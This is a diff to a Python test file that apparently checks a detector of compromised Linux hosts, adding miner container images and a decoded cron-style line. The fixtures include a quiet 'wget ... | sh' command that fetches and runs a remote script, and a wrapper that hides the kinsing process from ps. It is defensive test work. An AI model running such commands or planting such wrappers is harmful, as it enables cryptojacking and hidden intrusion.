@@ -53,6 +53,10 @@ def _entry(kind: AutostartKind, command: str) -> Autostart:
     return Autostart(kind=kind, path="/etc/entry", line=1, text=command, command=command)
 
 
+def _container(image: str) -> Autostart:
+    return Autostart(kind=AutostartKind.CONTAINER, path="/etc/x.container", command="run", image=image)
+
+
 TAMPERED: Final = (
     tool("/usr/bin/ps", Tampering.WRAPPED, text='#!/bin/sh\n/usr/bin/.ps "$@" | grep -v kinsing\n'),
     tool("/usr/bin/ls", Tampering.WRAPPED, text='#!/bin/sh\nexec /usr/bin/ls.real "$@"\n'),
@@ -197,6 +201,16 @@ MATCHING: Final = (
         "identity.autostart",
         "a program that is called as a family's",
     ),
+    _of(
+        _BACKUP,
+        "identity.known-line",
+        "a family's line in what is decoded",
+        followed(_BACKUP, text="wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1", step=Step.DECODED),
+    ),
+    *(
+        Sample("identity.image", image, snapshot(pod := _container(image)), pod.subject)
+        for image in ("xmrig", "registry.example.org/tools/xmrig:6.21@sha256:00")
+    ),
     *(
         Sample("concealment.system-tool", f"{each.path}, {each.tampering.value}", snapshot(each), each.subject)
         for each in TAMPERED
@@ -208,6 +222,8 @@ _HONEST_LINE: Final = cron("cd / && run-parts --report /etc/cron.hourly", path=_
                            unmodified=False)  # fmt: skip
 
 SPARED: Final = (
+    _none("identity.image", "a web server", _container("docker.io/library/nginx:1.27")),
+    _none("identity.image", "a registry that is called as a miner", _container("xmrig.example.org/web:1")),
     *(
         _none("persistence.strange-entry", what, _entry(kind, command))
         for what, kind, command in (
